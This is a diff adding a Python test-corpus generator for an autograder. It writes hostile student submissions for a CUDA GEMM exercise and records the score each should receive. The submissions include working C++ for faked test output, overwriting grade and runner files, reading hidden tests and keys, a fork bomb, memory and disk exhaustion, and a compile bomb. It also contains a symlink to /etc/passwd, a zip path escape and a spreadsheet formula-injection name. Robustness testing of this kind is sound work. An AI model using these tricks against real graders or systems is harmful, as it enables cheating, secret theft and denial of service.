@@ -1,0 +1,437 @@
+"""The hostile-submission corpus: one submission per way of cheating or of harming the grading
+machine that we know of, each with the score it must get.
+
+Most attacks target exercise 03a (a kernel exercise: on a machine without a GPU its tests run
+on the CPU backend) and are built from the public stub, so they need nothing secret; a few start
+from the instructor solution (a correct kernel that also does something hostile) and are
+skipped where the solutions are sealed. `python3 hostile.py DIR` writes the corpus into DIR as
+a batch of submissions (one folder or archive per student), for any grader to try.
+
+Expected outcomes, per attack, for 03a without its speed test (pending without a GPU):
+  zero       0 points: the attack computes nothing itself (or only on the host)
+  full       every correctness point: the kernel is right, and the hostile side effect
+             (a leftover process, writes outside its folder, reading secrets...) changes
+             nothing for anyone
+  fixed      only the tests at fixed public shapes: the kernel is right only there
+  refused    the submission is refused with a message (roster note), nothing is built
+"""
+
+import io
+import os
+import sys
+import tarfile
+import zipfile
+from dataclasses import dataclass, field
+from typing import Callable, Dict, Optional
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(HERE)))
+EXERCISE = "03a_bounds"
+FILE = "bounds.cuh"
+LAUNCHER = ("void launch_tiled_gemm(const float* A, const float* B, float* C, int M, int N, "
+            "int K) {\n")
+PUBLIC_SHAPES = "{1, 1, 1}, {1, 4097, 3}, {4097, 1, 3}, {127, 33, 1025}"
+
+
+@dataclass
+class Attack:
+    name: str
+    what: str
+    expect: str                       # zero | full | fixed | refused
+    make: Callable[["Sources"], Dict[str, bytes]]
+    needs_solution: bool = False
+    needs_sandbox: bool = False       # harms the machine without one (fork bomb, memory ...)
+    archive: Optional[str] = None     # "zip" / "tar": submitted as an archive
+    symlink: Optional[str] = None     # submit FILE as a symbolic link to this path
+    student: Optional[str] = None     # a name of its own (else the attack's)
+    extra: Dict[str, str] = field(default_factory=dict)
+
+
+@dataclass
+class Sources:
+    stub: str
+    solution: Optional[str]
+    root: str
+
+
+def at_launcher(text, code):
+    """`code` as the first statements of the launcher."""
+    if LAUNCHER not in text:
+        raise ValueError("the launcher's first line is not where the corpus expects it")
+    return text.replace(LAUNCHER, LAUNCHER + code, 1)
+
+
+def after_includes(text, code):
+    marker = '#include "exercises/support/exercise.hpp"\n'
+    return text.replace(marker, marker + code, 1)
+
+
+def files(text):
+    return {FILE: text.encode()}
+
+
+def stub_with(code, includes=""):
+    return lambda s: files(after_includes(at_launcher(s.stub, code), includes))
+
+
+def solution_with(code, includes=""):
+    return lambda s: files(after_includes(at_launcher(s.solution, code), includes))
+
+
+HOST_GEMM = """  {  // on the host, no kernel
+    std::vector<float> a(size_t(M) * K), b(size_t(K) * N), c(size_t(M) * N);
+    cudaMemcpy(a.data(), A, a.size() * 4, cudaMemcpyDeviceToHost);
+    cudaMemcpy(b.data(), B, b.size() * 4, cudaMemcpyDeviceToHost);
+    for (int i = 0; i < M; ++i)
+      for (int j = 0; j < N; ++j) {
+        float s = 0;
+        for (int k = 0; k < K; ++k) s += a[size_t(i) * K + k] * b[size_t(k) * N + j];
+        c[size_t(i) * N + j] = s;
+      }
+    cudaMemcpy(C, c.data(), c.size() * 4, cudaMemcpyHostToDevice);
+    return;
+  }
+"""
+
+FAKE_RESULTS = """
+#include <fstream>
+#include <sstream>
+namespace {
+// Reads the runner's command line and writes a result for every call before anything runs.
+struct FakeResults {
+  FakeResults() {
+    std::ifstream cmd("/proc/self/cmdline");
+    std::string all((std::istreambuf_iterator<char>(cmd)), std::istreambuf_iterator<char>());
+    std::vector<std::string> args;
+    std::stringstream split(all);
+    for (std::string a; std::getline(split, a, '\\0');) args.push_back(a);
+    if (args.size() < 3) return;
+    std::ifstream request(args[1]);
+    int i = 0;
+    for (std::string line; std::getline(request, line); ++i) {
+      std::ofstream(args[2] + "/" + std::to_string(i) + ".txt") << "ok launches=1\\n";
+      std::ofstream(args[2] + "/" + std::to_string(i) + ".bin") << std::string(1 << 20, '\\0');
+    }
+    std::ofstream(args[2] + "/done");
+    std::printf("All tests passed (99 assertions in 9 test cases)\\nGRADE_RATIO 99\\n");
+    std::fflush(stdout);
+    std::_Exit(0);
+  }
+} fake_results;
+}  // namespace
+"""
+
+WRITE_OUTSIDE = """
+#include <dirent.h>
+#include <limits.h>
+#include <stdlib.h>
+#include <fstream>
+namespace {
+// Tries to damage what it can reach: other binaries, the build, the kit, the grades.
+bool off_limits(const std::string& dir) {  // never the system, even where nothing stops it
+  char real[4096];
+  if (!realpath(dir.c_str(), real)) return true;
+  const std::string r = real;
+  for (const char* system : {"/usr", "/etc", "/lib", "/bin", "/sbin", "/proc", "/sys", "/dev",
+                             "/boot", "/var", "/opt", "/run", "/snap"})
+    if (r.rfind(system, 0) == 0) return true;
+  return r == "/";
+}
+bool target(const std::string& name) {
+  auto ends = [&](const std::string& tail) {
+    return name.size() >= tail.size() && name.compare(name.size() - tail.size(), tail.size(), tail) == 0;
+  };
+  return ends("_runner") || ends("_runner_cpu") || ends("_tests") || ends("_tests_cpu") ||
+         name == "exercise_check" || name == "exercise_reference" || name == "roster.csv" ||
+         name == "results.json" || name == "manifest.json" || name == "tests.json" || ends(".a");
+}
+void scribble(const std::string& dir, int depth) {
+  if (depth > 6 || off_limits(dir)) return;
+  DIR* d = opendir(dir.c_str());
+  if (!d) return;
+  while (dirent* e = readdir(d)) {
+    const std::string name = e->d_name;
+    if (name == "." || name == "..") continue;
+    const std::string path = dir + "/" + name;
+    if (e->d_type == DT_DIR) { scribble(path, depth + 1); continue; }
+    if (target(name)) {
+      std::ofstream f(path, std::ios::trunc);
+      f << "#!/bin/sh\\necho 'All tests passed'\\necho 'GRADE_RATIO 99'\\nexit 0\\n";
+    }
+  }
+  closedir(d);
+}
+}  // namespace
+"""
+
+
+def write_outside(s):
+    code = "  for (const char* top : {\"%s\", \"..\", \"../..\", \"../../..\"})\n" \
+           "    scribble(top, 0);\n" % s.root
+    return files(after_includes(at_launcher(s.solution, code), WRITE_OUTSIDE))
+
+
+READ_SECRETS = """
+#include <fstream>
+#include <iostream>
+namespace {
+void show(const std::string& path) {
+  std::ifstream in(path);
+  if (!in) return;
+  std::cout << "=== " << path << "\\n" << in.rdbuf() << std::endl;
+}
+}  // namespace
+"""
+
+
+def read_secrets(s):
+    code = "".join(f"  show(\"{p}\");\n" for p in (
+        f"{s.root}/exercises/instructor/hidden/tests.json",
+        f"{s.root}/exercises/instructor/solutions/03a_bounds/bounds.cuh",
+        f"{s.root}/exercises/instructor.key",
+        f"{os.path.dirname(s.root)}/shared/ci-secrets/exercises.key",
+        "../../private/expect.txt"))
+    # Then fail, so that the report shows the output (reports show failing tests' output).
+    return files(after_includes(at_launcher(s.stub, code + "  std::abort();\n"),
+                                "#include <cstdlib>\n" + READ_SECRETS))
+
+
+def shape_table(s):
+    code = ("  {\n    const int shapes[][3] = {" + PUBLIC_SHAPES + "};\n"
+            "    bool known = false;\n"
+            "    for (auto& sh : shapes) known |= sh[0] == M && sh[1] == N && sh[2] == K;\n"
+            "    if (!known) return;  // only where the public tests look\n  }\n")
+    return files(at_launcher(s.solution, code))
+
+
+def include_solution(s):
+    path = os.path.join(s.root, "exercises", "instructor", "solutions", EXERCISE, FILE)
+    return files(f'#pragma once\n#include "{path}"\n')
+
+
+DAEMON = """  if (M == 1 && N == 1) {  // a grandchild that leaves the session and keeps stdout open
+    if (fork() == 0) {
+      setsid();
+      if (fork() == 0) { sleep(120); _exit(0); }
+      _exit(0);
+    }
+  }
+"""
+
+FORK_BOMB = """  for (int i = 0; i < 100000; ++i) if (fork() < 0) break;
+  sleep(30);
+"""
+
+MEMORY_HOG = """  {
+    std::vector<char*> blocks;
+    for (int i = 0; i < 64; ++i) {  // 64 GB, touched
+      char* p = static_cast<char*>(std::malloc(size_t(1) << 30));
+      if (!p) break;
+      std::memset(p, 1, size_t(1) << 30);
+      blocks.push_back(p);
+    }
+  }
+"""
+
+OUTPUT_FLOOD = """  {
+    std::string line(1023, 'x');
+    for (int i = 0; i < 600 * 1024; ++i) std::puts(line.c_str());  // 600 MB
+  }
+"""
+
+DISK_FILL = """  {
+    FILE* f = std::fopen("fill.bin", "wb");
+    std::vector<char> mb(1 << 20, 7);
+    for (int i = 0; f && i < 4096; ++i) if (std::fwrite(mb.data(), 1, mb.size(), f) != mb.size()) break;
+    if (f) std::fclose(f);
+  }
+"""
+
+SPIN_THREAD = """  std::thread([] { for (volatile unsigned long i = 0;; ++i) {} }).detach();
+"""
+
+COMPILE_BOMB = """#define B0 x x
+#define B1 B0 B0
+#define B2 B1 B1
+#define B3 B2 B2
+#define B4 B3 B3
+#define B5 B4 B4
+#define B6 B5 B5
+#define B7 B6 B6
+#define B8 B7 B7
+#define B9 B8 B8
+#define B10 B9 B9
+#define B11 B10 B10
+#define B12 B11 B11
+#define B13 B12 B12
+#define B14 B13 B13
+#define B15 B14 B14
+#define B16 B15 B15
+#define B17 B16 B16
+#define B18 B17 B17
+#define B19 B18 B18
+#define B20 B19 B19
+#define B21 B20 B20
+#define B22 B21 B21
+#define B23 B22 B22
+#define B24 B23 B23
+#define B25 B24 B24
+#define B26 B25 B25
+#define B27 B26 B26
+#define B28 B27 B27
+#define B29 B28 B28
+#define B30 B29 B29
+int compile_bomb[] = {B30};
+"""
+
+STATIC_EXIT = """
+namespace {
+struct LeaveEarly { LeaveEarly() { std::exit(0); } } leave_early;
+}  // namespace
+"""
+
+REDEFINE = """#define REQUIRE(...) (void)0
+#define CHECK(...) (void)0
+#define INFO(...) (void)0
+#define REQUIRE_THROWS_AS(...) (void)0
+"""
+
+CHAPTER_CALL = "  ch03::launch_tiled_gemm<TILE_WIDTH>(A, B, C, M, N, K);\n  return;\n"
+
+
+def attacks():
+    sys_includes = "#include <cstdlib>\n#include <cstdio>\n#include <cstring>\n#include <vector>\n" \
+                   "#include <thread>\n#include <unistd.h>\n#include <cuda_runtime.h>\n"
+    return [
+        Attack("exit_zero", "std::exit(0) before computing", "zero",
+               stub_with("  std::exit(0);\n", sys_includes)),
+        Attack("quick_exit", "std::quick_exit(0)", "zero",
+               stub_with("  std::quick_exit(0);\n", sys_includes)),
+        Attack("underscore_exit", "_exit(0)", "zero", stub_with("  _exit(0);\n", sys_includes)),
+        Attack("exit_77", "exit(77), the 'skipped' code, to turn tests into pending", "zero",
+               stub_with("  std::exit(77);\n", sys_includes)),
+        Attack("abort", "std::abort()", "zero", stub_with("  std::abort();\n", sys_includes)),
+        Attack("static_exit", "exit(0) from a global constructor, before main", "zero",
+               lambda s: files(after_includes(s.stub, "#include <cstdlib>\n" + STATIC_EXIT))),
+        Attack("redefine_require", "#define REQUIRE/CHECK as no-ops, compute nothing", "zero",
+               lambda s: files(at_launcher(s.stub, "  return;\n").replace(
+                   "#pragma once\n", "#pragma once\n" + REDEFINE, 1))),
+        Attack("fake_output", "print 'All tests passed' and GRADE_RATIO 99, exit 0", "zero",
+               stub_with('  std::printf("All tests passed (8 assertions in 8 test cases)\\n'
+                         'GRADE_RATIO 99\\n"); std::fflush(stdout); std::exit(0);\n',
+                         sys_includes)),
+        Attack("fake_result_files", "write a result file for every call of the request", "zero",
+               lambda s: files(after_includes(s.stub, sys_includes + FAKE_RESULTS))),
+        Attack("chapter_kernel", "#include the chapter's kernel and call it", "zero",
+               stub_with(CHAPTER_CALL, '#include "03_bounds/kernels.cuh"\n')),
+        Attack("chapter_kernel_absolute", "the same with an absolute #include path", "zero",
+               lambda s: stub_with(CHAPTER_CALL, f'#include "{s.root}/03_bounds/kernels.cuh"\n')(s)),
+        Attack("chapter_kernel_declared", "declare the chapter's launcher and call it", "zero",
+               stub_with(CHAPTER_CALL, "namespace ch03 { template <int T> void launch_tiled_gemm("
+                         "const float*, const float*, float*, int, int, int); }\n")),
+        Attack("include_solution", "#include the unsealed instructor solution", "zero",
+               include_solution, needs_solution=True),
+        Attack("cpu_reference", "call the harness's CPU GEMM (tutorial::cpu_gemm)", "zero",
+               stub_with("  { std::vector<float> a(size_t(M) * K), b(size_t(K) * N), c(size_t(M) * N);\n"
+                         "    cudaMemcpy(a.data(), A, a.size() * 4, cudaMemcpyDeviceToHost);\n"
+                         "    cudaMemcpy(b.data(), B, b.size() * 4, cudaMemcpyDeviceToHost);\n"
+                         "    tutorial::cpu_gemm(a.data(), b.data(), c.data(), M, N, K);\n"
+                         "    cudaMemcpy(C, c.data(), c.size() * 4, cudaMemcpyHostToDevice); return; }\n",
+                         sys_includes + "namespace tutorial { void cpu_gemm(const float*, const float*, "
+                         "float*, int, int, int); }\n")),
+        Attack("cublas", "call cuBLAS SGEMM", "zero",
+               stub_with("  { cublasHandle_t h; cublasCreate(&h); const float one = 1, zero = 0;\n"
+                         "    cublasSgemm(h, CUBLAS_OP_N, CUBLAS_OP_N, N, M, K, &one, B, N, A, K, &zero, C, N);\n"
+                         "    cudaDeviceSynchronize(); cublasDestroy(h); return; }\n",
+                         "#include <cublas_v2.h>\n")),
+        Attack("host_compute", "compute C on the host and copy it back, no kernel", "zero",
+               stub_with(HOST_GEMM, sys_includes)),
+        Attack("shape_table", "a right kernel, but only at the shapes the public tests use",
+               "fixed", shape_table, needs_solution=True),
+        Attack("daemon", "a right kernel; a grandchild leaves the session, keeps stdout open "
+               "and sleeps 120 s", "full", solution_with(DAEMON, sys_includes),
+               needs_solution=True),
+        Attack("write_outside", "a right kernel that overwrites every runner, checker, library, "
+               "manifest and roster it can reach", "full", write_outside, needs_solution=True,
+               needs_sandbox=True),
+        Attack("read_secrets", "print the hidden tests, the solution, the key and the "
+               "grader's expectations if it can read them, then fail (failing tests' output "
+               "is shown)", "zero", read_secrets),
+        Attack("spin_thread", "a right kernel that leaves a thread spinning", "full",
+               solution_with(SPIN_THREAD, sys_includes), needs_solution=True),
+        Attack("output_flood", "600 MB on stdout", "zero", stub_with(OUTPUT_FLOOD, sys_includes)),
+        Attack("disk_fill", "write a 4 GB file", "zero", stub_with(DISK_FILL, sys_includes),
+               needs_sandbox=True),
+        Attack("fork_bomb", "fork until it fails", "zero", stub_with(FORK_BOMB, sys_includes),
+               needs_sandbox=True),
+        Attack("memory_hog", "allocate and touch 64 GB", "zero",
+               stub_with(MEMORY_HOG, sys_includes), needs_sandbox=True),
+        Attack("compile_bomb", "a macro that expands to 2^31 tokens", "zero",
+               lambda s: files(after_includes(s.stub, COMPILE_BOMB)), needs_sandbox=True),
+        Attack("symlink", "the student file is a symbolic link to /etc/passwd", "refused",
+               lambda s: {}, symlink="/etc/passwd"),
+        Attack("collision_dir", "alice/ and alice.zip: two submissions, one name", "refused",
+               lambda s: files(s.stub), student="alice"),
+        Attack("collision_zip", "alice/ and alice.zip: two submissions, one name", "refused",
+               lambda s: files(s.stub), student="alice", archive="zip"),
+        Attack("dotdot_zip", "a zip with a ../ member", "refused",
+               lambda s: {"../escape.cuh": b"int x;\n", FILE: s.stub.encode()}, archive="zip"),
+        Attack("formula_name", "a student name that is a spreadsheet formula", "zero",
+               lambda s: files(s.stub), student="=2+5+cmd|' calc'!A0"),
+    ]
+
+
+def sources(root=ROOT):
+    with open(os.path.join(root, "exercises", EXERCISE, FILE)) as f:
+        stub = f.read()
+    solution_path = os.path.join(root, "exercises", "instructor", "solutions", EXERCISE, FILE)
+    solution = open(solution_path).read() if os.path.isfile(solution_path) else None
+    return Sources(stub, solution, root)
+
+
+def write_corpus(dest, src=None, sandboxed=True, only=None):
+    """Writes the corpus's submissions into dest; returns {student: attack} of those written
+    and [(attack, why)] of those left out."""
+    src = src or sources()
+    written, skipped = {}, []
+    os.makedirs(dest, exist_ok=True)
+    for attack in attacks():
+        if only and attack.name not in only:
+            continue
+        if attack.needs_solution and src.solution is None:
+            skipped.append((attack, "needs the unsealed solutions"))
+            continue
+        if attack.needs_sandbox and not sandboxed:
+            skipped.append((attack, "would harm this machine without a sandbox"))
+            continue
+        student = attack.student or attack.name
+        content = attack.make(src)
+        if attack.archive == "zip":
+            with zipfile.ZipFile(os.path.join(dest, student + ".zip"), "w") as z:
+                for name, data in content.items():
+                    z.writestr(name, data)
+        elif attack.archive == "tar":
+            with tarfile.open(os.path.join(dest, student + ".tar.gz"), "w:gz") as t:
+                for name, data in content.items():
+                    info = tarfile.TarInfo(name)
+                    info.size = len(data)
+                    t.addfile(info, io.BytesIO(data))
+        else:
+            folder = os.path.join(dest, student)
+            os.makedirs(folder, exist_ok=True)
+            for name, data in content.items():
+                with open(os.path.join(folder, name), "wb") as f:
+                    f.write(data)
+            if attack.symlink:
+                os.symlink(attack.symlink, os.path.join(folder, FILE))
+        written[student] = attack
+    return written, skipped
+
+
+if __name__ == "__main__":
+    dest = sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus"
+    done, left = write_corpus(dest, sandboxed="--no-sandbox" not in sys.argv)
+    for student, attack in sorted(done.items()):
+        print(f"{student:<28} {attack.expect:<8} {attack.what}")
+    for attack, why in left:
+        print(f"(left out) {attack.name}: {why}")
